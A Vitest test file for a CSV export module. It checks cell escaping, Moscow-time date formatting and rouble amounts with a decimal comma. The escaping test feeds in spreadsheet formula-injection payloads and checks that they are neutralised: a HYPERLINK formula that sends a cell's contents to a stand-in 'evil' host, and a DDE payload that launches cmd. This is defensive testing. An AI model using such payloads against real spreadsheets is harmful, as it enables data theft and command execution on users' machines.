import { describe, expect, it } from 'vitest';
import { csvCell, csvDateTime, csvMoney } from './csv';

// The one cell of every export (schema/csv.ts): its rule is tested here; the web's tests check only
// what the web adds (its direction marks dropped, the pages read).
describe('csvCell', () => {
  it('writes formula-like cells as text with a leading apostrophe, numbers as numbers, and quotes where needed', () => {
    expect(
      [
        '=HYPERLINK("http://evil/?x="&A1;"Нажмите")',
        '+cmd|" /C calc"!A0',
        '-2+3',
        '@SUM(A1:A9)',
        '\t=1+1',
        '\r=1+1',
        'ООО =Ромашка',
        -12.5,
        '-12.50',
        '+79990000001',
        '-1,5',
        '- 5',
        null,
        'a;b',
      ].map(csvCell),
    ).toEqual([
      `"'=HYPERLINK(""http://evil/?x=""&A1;""Нажмите"")"`,
      `"'+cmd|"" /C calc""!A0"`,
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      `"'\r=1+1"`,
      'ООО =Ромашка',
      '-12.5',
      '-12.50',
      '+79990000001',
      '-1,5',
      "'- 5",
      '',
      '"a;b"',
    ]);
  });
});

describe('one format for dates and money (issue 26)', () => {
  it('writes dates as дд.мм.гггг чч:мм with the year, in Moscow time unless told', () => {
    expect(csvDateTime('2026-11-25T15:16:00.000Z')).toBe('25.11.2026 18:16');
    expect(csvDateTime('2026-12-31T21:30:00.000Z')).toBe('01.01.2027 00:30');
    expect(csvDateTime('2026-11-25T15:16:00.000Z', 'Europe/Samara')).toBe('25.11.2026 19:16');
    expect([csvDateTime('not a date'), csvDateTime(null)]).toEqual([null, null]);
  });

  it('writes sums in roubles with the decimal comma', () => {
    expect([39999, 5, -1250, '100', null, ''].map(csvMoney)).toEqual(['399,99', '0,05', '-12,50', '1,00', null, null]);
  });
});
